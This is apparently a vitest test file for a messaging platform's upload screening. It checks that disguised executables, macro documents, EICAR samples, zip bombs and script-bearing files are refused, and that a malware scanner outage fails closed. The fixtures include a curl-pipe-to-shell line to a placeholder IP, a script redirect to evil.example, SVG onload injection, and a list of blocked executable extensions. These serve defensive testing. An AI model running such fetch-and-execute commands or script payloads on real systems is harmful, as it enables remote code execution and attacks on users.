import { createServer } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ConfigError, readConfig } from '../../src/config.ts';
import { sql } from '../../src/db/sql.ts';
import { clamdPing, clamdScan, parseClamdUrl, parseScanReply } from '../../src/media/clamd.ts';
import { MAX_ZIP_ENTRIES } from '../../src/media/inspect-container.ts';
import { assessMedia } from '../../src/media/screen-media.ts';
import { EICAR, startFakeClamd, type FakeClamd } from '../helpers/fake-clamd.ts';
import { ELF, EXE, PDF, PNG, cfb, docx, zip } from '../helpers/media-files.ts';
import { startTestPlatform, type Tenant, type TestPlatform } from '../helpers/test-platform.ts';

const MSI_CLSID = '84100c0000000000c000000000000046';
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const CUSTOMER = '+12025550180';

let clamd: FakeClamd;
let t: TestPlatform;
let tenant: Tenant;

async function upload(bytes: Buffer, filename: string, type: string, platform = t, key = tenant.apiKey) {
  const form = new FormData();
  form.append('file', new Blob([bytes], { type }), filename);
  const res = await fetch(`${platform.url}/v1/media`, { method: 'POST', headers: { authorization: `Bearer ${key}` }, body: form });
  return { status: res.status, body: (await res.json()) as any };
}

async function counts(orgId = tenant.orgId) {
  const [row] = await t.platform.deps.db.query<{ media: number; signals: number }>(sql`
    SELECT (SELECT count(*)::int FROM media WHERE org_id = ${orgId}) AS media,
           (SELECT count(*)::int FROM compliance_signals WHERE org_id = ${orgId}) AS signals`);
  return row!;
}

async function lastSignal() {
  const [row] = await t.platform.deps.db.query<{ kind: string; clause: string; detail: any }>(sql`
    SELECT kind, clause, detail FROM compliance_signals WHERE org_id = ${tenant.orgId} ORDER BY occurred_at DESC, id DESC LIMIT 1`);
  return row!;
}

/** Uploads a file that must be refused, and checks that nothing was stored and a 3.4 signal was recorded. */
async function expectRefused(bytes: Buffer, filename: string, type: string, code: string, signalKind: string) {
  const before = await counts();
  const r = await upload(bytes, filename, type);
  expect(r.status, JSON.stringify(r.body)).toBe(422);
  expect(r.body.error).toMatchObject({ code, policy_clause: '3.4' });
  const after = await counts();
  expect(after.media).toBe(before.media);
  expect(after.signals).toBe(before.signals + 1);
  expect(await lastSignal()).toMatchObject({ kind: signalKind, clause: '3.4', detail: { filename } });
  return r.body.error;
}

async function freePort(): Promise<number> {
  const server = createServer();
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as { port: number }).port;
  await new Promise((resolve) => server.close(resolve));
  return port;
}

beforeAll(async () => {
  clamd = await startFakeClamd({ streamMaxLength: 1024 * 1024 });
  t = await startTestPlatform({ env: { CLAMD_URL: clamd.url, CLAMD_TIMEOUT_MS: '1500', CLAMD_PING_TIMEOUT_MS: '500' } });
  tenant = await t.createTenant('Screening', { optIn: false });
});
afterAll(async () => {
  await t?.close();
  await clamd?.stop();
});

describe('AUP 3.4 — media screening: what an upload claims must be what its bytes are', () => {
  it('refuses a PNG declared as a PDF, or named as one, and records the refusal', async () => {
    const declared = await expectRefused(PNG, 'invoice.pdf', 'application/pdf', 'media_type_mismatch', 'media_refused_type_mismatch');
    expect(declared.details).toMatchObject({ detected_type: 'image/png', declared_type: 'application/pdf' });
    const named = await expectRefused(PNG, 'invoice.pdf', 'application/octet-stream', 'media_type_mismatch', 'media_refused_type_mismatch');
    expect(named.message).toMatch(/\.pdf/);
    await expectRefused(PNG, 'photo.jpg', 'image/jpeg', 'media_type_mismatch', 'media_refused_type_mismatch');
  });

  it('accepts a file whose declaration matches, or that declares nothing', async () => {
    expect((await upload(PNG, 'receipt.png', 'image/png')).body).toMatchObject({ kind: 'image', mime_type: 'image/png' });
    expect((await upload(PNG, 'receipt', 'application/octet-stream')).body).toMatchObject({ kind: 'image', mime_type: 'image/png' });
    expect((await upload(PDF, 'Invoice.PDF', 'application/pdf')).body).toMatchObject({ kind: 'document', mime_type: 'application/pdf' });
    // A .txt name is a declaration of plain text, which has no signature to read.
    expect((await upload(Buffer.from('Order 42 shipped.\n'), 'note.txt', 'application/octet-stream')).body).toMatchObject({ mime_type: 'text/plain' });
  });
});

describe('AUP 3.4 — media screening: executables, scripts and macros are refused', () => {
  it('refuses a Windows program renamed .jpg, and a Linux one renamed .png', async () => {
    const exe = await expectRefused(EXE, 'photo.jpg', 'image/jpeg', 'media_not_allowed', 'media_refused_not_allowed');
    expect(exe.details).toEqual({ reason: 'executable' });
    expect(exe.message).toMatch(/x-msdownload/);
    await expectRefused(ELF, 'scan.png', 'image/png', 'media_not_allowed', 'media_refused_not_allowed');
  });

  it('refuses programs and scripts by name and by declared type, whatever their bytes', async () => {
    for (const name of ['setup.exe', 'invoice.pdf.exe', 'update.exe.', 'run.bat', 'x.cmd', 'a.ps1', 'b.vbs', 'c.js', 'app.jar', 'app.apk', 'setup.msi', 'fix.scr']) {
      const error = await expectRefused(PDF, name, 'application/pdf', 'media_not_allowed', 'media_refused_not_allowed');
      expect(['executable', 'script'], name).toContain(error.details.reason);
    }
    const typed = await expectRefused(Buffer.from('alert(1)'), 'notes.txt', 'text/javascript', 'media_not_allowed', 'media_refused_not_allowed');
    expect(typed.details).toEqual({ reason: 'declared_type' });
  });

  it('refuses a shell script with a shebang, and HTML or SVG that carry scripts', async () => {
    const sh = await expectRefused(Buffer.from('#!/bin/sh\ncurl http://203.0.113.9/x | sh\n'), 'notes.txt', 'text/plain', 'media_not_allowed', 'media_refused_not_allowed');
    expect(sh.details).toEqual({ reason: 'script' });
    const html = '<!DOCTYPE html><html><body><p>Your invoice</p><script>location="https://evil.example"</script></body></html>';
    await expectRefused(Buffer.from(html), 'invoice.txt', 'text/plain', 'media_not_allowed', 'media_refused_not_allowed');
    const svg = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="10" height="10"/></svg>';
    await expectRefused(Buffer.from(svg), 'logo.txt', 'text/plain', 'media_not_allowed', 'media_refused_not_allowed');
    // Markup without scripts is still not plain text.
    await expectRefused(Buffer.from('<html><body>Hello</body></html>'), 'hello.txt', 'text/plain', 'media_type_mismatch', 'media_refused_type_mismatch');
  });

  it('finds markup behind leading blank lines, and a script past the first MiB still does not pass as text', async () => {
    const padded = await assessMedia({ bytes: Buffer.from('\n'.repeat(10_000) + '<svg onload="alert(1)"></svg>'), filename: 'a.txt', declaredType: 'text/plain' });
    expect(!padded.ok && padded.error.code).toBe('media_not_allowed');
    const late = await assessMedia({ bytes: Buffer.from('<html><body>' + 'x'.repeat(2 * 1024 * 1024) + '<script>alert(1)</script></body></html>'), filename: 'a.txt', declaredType: 'text/plain' });
    expect(!late.ok && late.error.code).toBe('media_type_mismatch');
  });

  it('refuses a macro-enabled Word document renamed .docx, and a .docx that hides a VBA project', async () => {
    const docm = await expectRefused(docx({ macros: true, macroContentTypes: true }), 'contract.docx', DOCX, 'media_not_allowed', 'media_refused_not_allowed');
    expect(docm.details).toEqual({ reason: 'macros' });
    const hidden = await expectRefused(docx({ macros: true }), 'contract.docx', DOCX, 'media_not_allowed', 'media_refused_not_allowed');
    expect(hidden.message).toMatch(/vbaProject\.bin/);
    const embedded = await expectRefused(docx({ extra: [{ name: 'word/embeddings/setup.exe', data: EXE }] }), 'contract.docx', DOCX, 'media_not_allowed', 'media_refused_not_allowed');
    expect(embedded.details).toEqual({ reason: 'executable' });
    const clean = await upload(docx(), 'contract.docx', DOCX);
    expect(clean.status, JSON.stringify(clean.body)).toBe(201);
    expect(clean.body).toMatchObject({ kind: 'document', mime_type: DOCX });
  });

  it('refuses a legacy .doc with VBA macros and an installer named .doc; a plain .doc passes', async () => {
    const vba = await expectRefused(cfb(['WordDocument', 'Macros', '_VBA_PROJECT']), 'letter.doc', 'application/msword', 'media_not_allowed', 'media_refused_not_allowed');
    expect(vba.details).toEqual({ reason: 'macros' });
    const msi = await expectRefused(cfb(['SummaryInformation'], MSI_CLSID), 'letter.doc', 'application/msword', 'media_not_allowed', 'media_refused_not_allowed');
    expect(msi.details).toEqual({ reason: 'executable' });
    const plain = await upload(cfb(['WordDocument', '1Table']), 'letter.doc', 'application/msword');
    expect(plain.body).toMatchObject({ kind: 'document', mime_type: 'application/msword' });
  });
});

describe('AUP 3.4 — media screening: the malware scanner (clamd)', () => {
  it('refuses the EICAR test file, records it, and stores nothing', async () => {
    const error = await expectRefused(Buffer.from(EICAR), 'readme.txt', 'text/plain', 'media_malware_detected', 'media_refused_malware');
    expect(error.details).toEqual({ signature: 'Eicar-Signature' });
    expect((await lastSignal()).detail).toMatchObject({ signature: 'Eicar-Signature', sha256: expect.stringMatching(/^[0-9a-f]{64}$/) });
  });

  it('scans a clean file and accepts it, and /readyz shows the scanner ready', async () => {
    const scans = clamd.scans.length;
    const png = await upload(PNG, 'receipt.png', 'image/png');
    expect(png.status).toBe(201);
    expect(clamd.scans.slice(scans)).toEqual([PNG.length]);
    const ready = await t.api('GET', '/readyz');
    expect(ready.status).toBe(200);
    expect(ready.body.checks).toMatchObject({ database: 'ok', malware_scanner: 'ok' });
  });

  it('refuses a file larger than the scanner accepts rather than storing it unscanned', async () => {
    const before = await counts();
    const big = Buffer.concat([PDF, Buffer.alloc(2 * 1024 * 1024, 0x20)]);
    const r = await upload(big, 'big.pdf', 'application/pdf');
    expect(r.status, JSON.stringify(r.body)).toBe(413);
    expect(r.body.error).toMatchObject({ code: 'payload_too_large', details: { reason: 'scanner_size_limit' } });
    expect((await counts()).media).toBe(before.media);
  });

  it('fails closed: a scanner that hangs or is down refuses uploads with 503 and makes /readyz not ready, until it is back', async () => {
    const before = await counts();
    clamd.mode = 'hang';
    const hung = await upload(PNG, 'receipt.png', 'image/png');
    expect(hung.status).toBe(503);
    expect(hung.body.error.code).toBe('scanner_unavailable');
    const hungReady = await t.api('GET', '/readyz');
    expect(hungReady.status).toBe(503);
    expect(hungReady.body).toMatchObject({ status: 'unavailable', checks: { database: 'ok', malware_scanner: 'unavailable' } });
    clamd.mode = 'normal';

    const port = clamd.port;
    await clamd.stop();
    const down = await upload(PNG, 'receipt.png', 'image/png');
    expect(down.status).toBe(503);
    expect(down.body.error.code).toBe('scanner_unavailable');
    expect((await t.api('GET', '/readyz')).body.checks.malware_scanner).toBe('unavailable');
    expect((await counts()).media).toBe(before.media);

    clamd = await startFakeClamd({ streamMaxLength: 1024 * 1024, port });
    expect((await t.api('GET', '/readyz')).status).toBe(200);
    expect((await upload(PNG, 'receipt.png', 'image/png')).status).toBe(201);
  });

  it('without CLAMD_URL scanning is off and /readyz says so', async () => {
    const plain = await startTestPlatform({ workers: false });
    try {
      const ready = await plain.api('GET', '/readyz');
      expect(ready.status).toBe(200);
      expect(ready.body.checks).toMatchObject({ database: 'ok', malware_scanner: 'disabled' });
      const other = await plain.createTenant('Unscanned', { optIn: false });
      // The byte checks still apply; only the scanner is off.
      expect((await upload(EXE, 'photo.jpg', 'image/jpeg', plain, other.apiKey)).status).toBe(422);
      expect((await upload(Buffer.from(EICAR), 'readme.txt', 'text/plain', plain, other.apiKey)).status).toBe(201);
    } finally {
      await plain.close();
    }
  });
});

describe('AUP 3.4 — media screening: containers are inspected without inflating them', () => {
  it('does not inflate a zip bomb: a 128 MiB entry compressed to a few hundred KiB is judged from the directory', async () => {
    const bomb = docx({ extra: [{ name: 'word/media/blank.xml', data: Buffer.alloc(128 * 1024 * 1024), deflate: true }] });
    expect(bomb.length).toBeLessThan(1024 * 1024);
    const memory = () => process.memoryUsage().heapUsed + process.memoryUsage().arrayBuffers;
    const heapBefore = memory();
    const started = Date.now();
    const verdict = await assessMedia({ bytes: bomb, filename: 'report.docx', declaredType: DOCX });
    expect(verdict.ok).toBe(true);
    expect(Date.now() - started).toBeLessThan(2000);
    expect(memory() - heapBefore).toBeLessThan(32 * 1024 * 1024);
  });

  it('refuses a zip that lists more entries than any document has, without reading them', async () => {
    const many = zip(Array.from({ length: MAX_ZIP_ENTRIES + 1 }, (_, i) => ({ name: `word/p${i}.xml`, data: '' })));
    const verdict = await assessMedia({ bytes: many, filename: 'report.docx', declaredType: DOCX });
    expect(verdict.ok).toBe(false);
    if (!verdict.ok) expect(verdict.error.details).toEqual({ reason: 'unreadable_container' });
  });

  it('refuses OpenDocument macros and ActiveX controls', async () => {
    const odt = zip([{ name: 'mimetype', data: 'application/vnd.oasis.opendocument.text' }, { name: 'Basic/Standard/Module1.xml', data: '<script:module/>' }]);
    const od = await assessMedia({ bytes: odt, filename: 'letter.odt', declaredType: undefined });
    expect(!od.ok && od.error.code).toBe('media_not_allowed');
    const activeX = await assessMedia({ bytes: docx({ extra: [{ name: 'word/activeX/activeX1.bin', data: 'x' }] }), filename: 'a.docx', declaredType: DOCX });
    expect(!activeX.ok && activeX.error.details).toEqual({ reason: 'macros' });
  });
});

describe('AUP 3.4 — media screening: media links and document names', () => {
  beforeAll(async () => {
    await t.sim('POST', `/_sim/customers/${CUSTOMER}/messages`, { to_phone_number_id: tenant.metaPhoneNumberId, type: 'text', text: { body: 'hi' } });
    await t.waitFor('window open', async () => (await t.api('GET', '/v1/messages', { key: tenant.apiKey })).body.data.length > 0);
  });

  it('refuses links to programs and scripts, and links whose name contradicts the message type', async () => {
    for (const link of ['https://cdn.example.com/setup.exe', 'https://cdn.example.com/a/update.apk?x=1', 'https://cdn.example.com/run.ps1']) {
      const r = await t.api('POST', '/v1/messages', { key: tenant.apiKey, body: { to: CUSTOMER, type: 'document', document: { link } } });
      expect(r.status, link).toBe(422);
      expect(r.body.error).toMatchObject({ code: 'media_not_allowed', policy_clause: '3.4' });
    }
    const wrong = await t.api('POST', '/v1/messages', { key: tenant.apiKey, body: { to: CUSTOMER, type: 'image', image: { link: 'https://cdn.example.com/invoice.pdf' } } });
    expect(wrong.status).toBe(422);
    expect(wrong.body.error).toMatchObject({ code: 'media_type_mismatch', policy_clause: '3.4' });
    const fine = await t.api('POST', '/v1/messages', { key: tenant.apiKey, body: { to: CUSTOMER, type: 'image', image: { link: 'https://cdn.example.com/p/photo.JPG?w=800' } } });
    expect(fine.status, fine.text).toBe(202);
    const page = await t.api('POST', '/v1/messages', { key: tenant.apiKey, body: { to: CUSTOMER, type: 'image', image: { link: 'https://cdn.example.com/img.php?id=7' } } });
    expect(page.status, page.text).toBe(202);
  });

  it('holds a document\'s filename — the name the phone saves it under — to the same rules', async () => {
    const send = (document: Record<string, unknown>) => t.api('POST', '/v1/messages', { key: tenant.apiKey, body: { to: CUSTOMER, type: 'document', document } });
    const exe = await send({ link: 'https://cdn.example.com/inv.pdf', filename: 'invoice.pdf.exe' });
    expect(exe.status).toBe(422);
    expect(exe.body.error).toMatchObject({ code: 'media_not_allowed', policy_clause: '3.4', details: [{ path: 'body.document.filename', reason: 'executable' }] });
    const pdf = await upload(PDF, 'contract.pdf', 'application/pdf');
    const macro = await send({ id: pdf.body.id, filename: 'contract.docm' });
    expect(macro.body.error).toMatchObject({ code: 'media_not_allowed', details: [{ reason: 'macros' }] });
    const renamed = await send({ id: pdf.body.id, filename: 'contract.docx' });
    expect(renamed.body.error).toMatchObject({ code: 'media_type_mismatch', policy_clause: '3.4' });
    const named = await send({ id: pdf.body.id, filename: 'Contract 2026.PDF' });
    expect(named.status, named.text).toBe(202);
    expect((await upload(docx(), 'report.docm', DOCX)).body.error).toMatchObject({ code: 'media_not_allowed', details: { reason: 'macros' } });
  });
});

describe('clamd protocol client', () => {
  it('speaks PING, INSTREAM and reads every reply form', async () => {
    const target = parseClamdUrl(clamd.url)!;
    await clamdPing(target, 1000);
    expect(await clamdScan(target, Buffer.from('hello'), 1000)).toEqual({ verdict: 'clean' });
    expect(await clamdScan(target, Buffer.alloc(0), 1000)).toEqual({ verdict: 'clean' });
    expect(await clamdScan(target, Buffer.concat([Buffer.alloc(200_000, 1), Buffer.from(EICAR)]), 1000)).toEqual({ verdict: 'infected', signature: 'Eicar-Signature' });
    expect(await clamdScan(target, Buffer.alloc(3 * 1024 * 1024), 2000)).toEqual({ verdict: 'too_large' });
    expect(parseScanReply('stream: Win.Test.EICAR_HDB-1 FOUND')).toEqual({ verdict: 'infected', signature: 'Win.Test.EICAR_HDB-1' });
    expect(parseScanReply('INSTREAM size limit exceeded. ERROR')).toEqual({ verdict: 'too_large' });
    expect(parseScanReply('Can\'t allocate memory ERROR')).toMatchObject({ verdict: 'unavailable' });
  });

  it('reports an unreachable scanner as unavailable, never as clean', async () => {
    const closed = { host: '127.0.0.1', port: await freePort() };
    expect(await clamdScan(closed, Buffer.from('x'), 500)).toMatchObject({ verdict: 'unavailable' });
    await expect(clamdPing(closed, 500)).rejects.toThrow();
  });

  it('reads CLAMD_URL as tcp://host:port or unix:///path, and refuses anything else at boot', () => {
    expect(parseClamdUrl('tcp://clamav:3310')).toEqual({ host: 'clamav', port: 3310 });
    expect(parseClamdUrl('unix:///run/clamav/clamd.ctl')).toEqual({ path: '/run/clamav/clamd.ctl' });
    expect(readConfig({ CLAMD_URL: 'tcp://127.0.0.1:3310' }).clamd).toMatchObject({ target: { host: '127.0.0.1', port: 3310 }, timeoutMs: 60_000 });
    expect(readConfig({}).clamd).toBeUndefined();
    for (const bad of ['http://clamav:3310', 'tcp://clamav', 'clamav:3310']) expect(() => readConfig({ CLAMD_URL: bad })).toThrow(ConfigError);
  });
});
